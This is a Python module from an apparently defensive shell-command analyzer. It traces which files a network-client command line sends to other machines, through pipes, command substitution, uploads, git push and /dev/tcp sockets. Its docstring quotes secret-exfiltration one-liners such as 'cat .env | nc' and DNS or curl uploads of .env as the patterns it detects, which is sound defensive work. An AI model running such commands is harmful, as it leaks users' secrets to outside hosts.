"""What a line sends to other machines: the files whose content reaches a network client.

A mixin of the analyzer. For a network client (``programs.sends`` says which of
its options, operands and inputs go over the wire) it records on the command
(``Command.sends``) the files whose content goes out, following the line's data
flow: what its input carries (``cat .env | nc``, ``nc host < .env``), what a
value substituted into its words carries (``dig $(base64 .env).x``,
``curl -d "$(cat .env)"``), the files it uploads and what the line put in them
(``cat .env > n.txt; curl -T n.txt``, ``cp``, ``ln -s``, ``tar -czf``), what
``git add`` staged before a ``git push``, and a command whose output goes to a
socket (``cat .env > /dev/tcp/host/80``, ``exec 3<>/dev/tcp/...; cat .env >&3``).
Inline interpreter code that talks to the network sends what it names (``code``:
the guard does not follow data inside code). Which of these files are secrets is
the guard's question (``deny_commands``' ``secrets``), not the analyzer's.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import TYPE_CHECKING, Final

from .producers import ENVIRON, dumps_env
from .programs.sends import curl_config, put_files, sends
from .records import Sent
from .values import HOLE_RE, Output, Read

if TYPE_CHECKING:
    from .records import Command
    from .syntax import SimpleCommand
    from .values import Holes

__all__ = ["Leaks"]

_SOCKETS: Final = ("/dev/tcp/", "/dev/udp/")
#: names of a command's own input
_STDIN: Final = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
#: a word in code that may be a file name (no spaces, quotes, brackets or separators)
_PATH_LIKE: Final = re.compile(r"[^\s'\"()\[\]{};,<>|&=]{1,255}")


class Leaks:
    """Network clients' payloads, for the analyzer."""

    commands: list[Command]
    holes: Holes
    files: dict[str, Output]
    net_fds: set[str]
    staged: list[Sent]  # what ``git add`` put in the repository on this line

    if TYPE_CHECKING:

        def out(self, i: int) -> Output: ...
        def stdin_of(self, raw: SimpleCommand) -> tuple[Output | None, tuple[int, ...]]: ...
        def file_key(self, path: str, cwd: str | None) -> str: ...
        def carried(self, out: Output | None) -> tuple[Read, ...]: ...
        def operand_reads(
            self, args: Sequence[str], cwd: str | None, origin: str, unknown: bool = False
        ) -> list[Read]: ...

    def leaks(
        self,
        argv: Sequence[str],
        raw: SimpleCommand | None,
        stdin: Output | None,
        cwd: str | None,
        written: Sequence[str],
        idx: int,
    ) -> None:
        """Record on command ``idx`` what it sends to another machine."""
        cmd = self.commands[idx]
        origin = cmd.written
        found: list[Read] = []
        pushed: list[Sent] = []
        excludes: tuple[str, ...] = ()
        if any(t.startswith(_SOCKETS) for t in written) or (
            raw is not None and self.net_fds and _to_socket(raw, self.net_fds)
        ):
            found.extend(self.carried(self.out(idx)))  # its own output goes to a socket
        what = sends(list(argv)) if argv else None
        if what is not None:
            if what.stage:
                staged = self.operand_reads(what.stage, cwd, origin, unknown=True)
                # -f: ignored files too, so only git's own folder is left out
                how, left_out = ("data", (".git",)) if what.force else ("git", ())
                self.staged.extend(Sent(p, how, c, left_out) for p, c in staged)
            if what.push:
                pushed = self.staged
            files = ["-" if f in _STDIN else f for f in what.files]
            if what.config is not None:  # curl -K: the options come from a file or the input
                files.append("-" if what.config in _STDIN else "")
                text = self._text_of(what.config, cwd, stdin, raw)
                files.extend(curl_config(text) if text is not None else ())
            if what.stdin or what.script_stdin or "-" in files:
                if stdin is None and raw is not None:
                    stdin = self.stdin_of(raw)[0]
                if what.stdin or "-" in files:
                    found.extend(self.carried(stdin))
                if what.script_stdin and stdin is not None and stdin.kind == "lit":
                    files.extend(put_files(stdin.text))
            if what.script:
                files.extend(put_files(what.script))
            for f in files:
                if not f or f == "-":
                    continue
                piped = self.holes.of(f) if HOLE_RE.search(f) is not None else []
                if piped and all(h.kind == "fd" for h in piped):  # @<(cmd): what cmd prints
                    found.extend(r for h in piped if h.out is not None for r in h.out.reads)
                else:
                    found.extend(self.operand_reads([f], cwd, origin, unknown=True))
            if what.args:
                for word in argv[1:]:
                    if HOLE_RE.search(word) is not None:
                        for hole in self.holes.of(word):
                            if hole.out is not None:
                                found.extend(hole.out.reads)
            excludes = what.excludes
        if found or pushed:
            sent = dict.fromkeys((*(Sent(p, "data", c, excludes) for p, c in found), *pushed))
            self.commands[idx] = cmd._replace(sends=(*cmd.sends, *sent))

    def _text_of(
        self, name: str, cwd: str | None, stdin: Output | None, raw: SimpleCommand | None
    ) -> str | None:
        """The text of a file a command reads options from, when the line shows it."""
        if name in _STDIN:
            if stdin is None and raw is not None:
                stdin = self.stdin_of(raw)[0]
            out = stdin
        else:
            out = self.files.get(self.file_key(name, cwd))
        return out.text if out is not None and out.kind == "lit" else None

    def code_sends(
        self, args: Sequence[str], literals: Sequence[str], stdin: Output | None, cwd: str | None
    ) -> list[Sent]:
        """Inline code that talks to the network: what it names, reads or is given."""
        named = [
            w
            for w in (*literals, *args)
            if _PATH_LIKE.fullmatch(w) and "://" not in w and w not in (".", "..", "./", "../")
        ]
        reads = [*self.operand_reads(named, cwd, ""), *self.carried(stdin)]
        if any(dumps_env(a) for a in args):
            reads.append((ENVIRON, ""))
        return [Sent(p, "code", c) for p, c in dict.fromkeys(reads)]


def _to_socket(raw: SimpleCommand, net_fds: set[str]) -> bool:
    """``cmd >&3`` where the line opened file descriptor 3 on ``/dev/tcp/...``."""
    return any(
        r.op in (">&", "&>") and r.target in net_fds and r.fd in (None, "1", "2")
        for r in raw.redirects
    )
